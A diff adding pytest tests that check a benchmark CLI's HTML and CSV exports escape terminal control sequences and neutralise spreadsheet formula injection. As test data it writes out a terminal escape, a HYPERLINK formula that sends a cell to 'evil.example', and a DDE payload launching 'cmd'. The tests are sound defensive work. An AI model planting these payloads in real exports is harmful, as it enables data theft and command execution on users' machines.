@@ -124,3 +124,62 @@ def test_runs_list_shows_a_hostile_model_name_escaped(tmp_path: Path) -> None:
     shown = CliRunner().invoke(main, ["runs", "show", "r-hostile", "--store", str(store)],
                                catch_exceptions=False)
     assert [raw for raw in RAW if raw in shown.stdout_bytes] == []
+
+
+def controls(text: str) -> list[str]:
+    """The control characters of a document that a terminal would act on (all but the tab
+    and the line feed)."""
+    return sorted({c for c in text if (ord(c) < 0x20 and c not in "\t\n")
+                   or 0x7F <= ord(c) < 0xA0})
+
+
+def test_report_html_and_csv_export_on_stdout_and_in_files_carry_no_control_characters(
+        tmp_path: Path) -> None:
+    """Autoescaping leaves an ESC in HTML (it is no markup): the HTML report reached a
+    terminal raw through `edge report --format html`, and a CSV export through a `cat`."""
+    from .hostile import Elements
+
+    store = tmp_path / "results.sqlite"
+    with ResultsStore(store) as opened:
+        opened.add_run(dataclasses.replace(hostile_run(), tags=()))
+    for args in (["report", "r-hostile", "--format", "html"],
+                 ["runs", "export", "r-hostile", "--format", "csv"]):
+        shown = CliRunner().invoke(main, [*args, "--store", str(store)],
+                                   catch_exceptions=False)
+        assert shown.exit_code == 0, shown.output
+        assert [raw for raw in RAW if raw in shown.stdout_bytes] == []
+        assert controls(shown.stdout) == []
+        assert "\\x1b]0;owned\\x07" in shown.stdout  # shown, escaped
+        written = tmp_path / f"written.{args[-1]}"
+        assert CliRunner().invoke(main, [*args, "--store", str(store), "-o", str(written)],
+                                  catch_exceptions=False).exit_code == 0
+        assert written.read_text(encoding="utf-8") == shown.stdout
+    html = CliRunner().invoke(main, ["report", "r-hostile", "--format", "html", "--store",
+                                     str(store)], catch_exceptions=False).stdout
+    assert Elements(html).injected() == []  # still escaped as HTML
+
+
+def test_csv_cells_from_a_board_are_never_spreadsheet_formulas(tmp_path: Path) -> None:
+    import csv
+    import io
+
+    from .records import BOARD, make_run, record
+
+    board = {**BOARD, "cpu_model": '=HYPERLINK("http://evil.example/?"&A1,"Cortex")',
+             "machine": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    run = make_run("r-formula", [record("fp32", target="+lab", board=board),
+                                 {"target": "+lab", "variant": "-2+3", "recipe": "-2+3",
+                                  "status": "failed", "stage": "compress",
+                                  "error": "\t=1+1\x1b[2J"}])
+    store = tmp_path / "results.sqlite"
+    with ResultsStore(store) as opened:
+        opened.add_run(run)
+    exported = CliRunner().invoke(main, ["runs", "export", "r-formula", "--format", "csv",
+                                         "--store", str(store)], catch_exceptions=False)
+    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
+    cells = [cell for row in rows for cell in row.values()]
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    assert rows[0]["board_cpu_model"] == "'" + board["cpu_model"]
+    assert rows[0]["target"] == "'+lab" and rows[1]["variant"] == "'-2+3"
+    assert rows[1]["error"] == "'\t=1+1\\x1b[2J"
+    assert float(rows[0]["p50_ms"]) > 0  # figures stay numbers
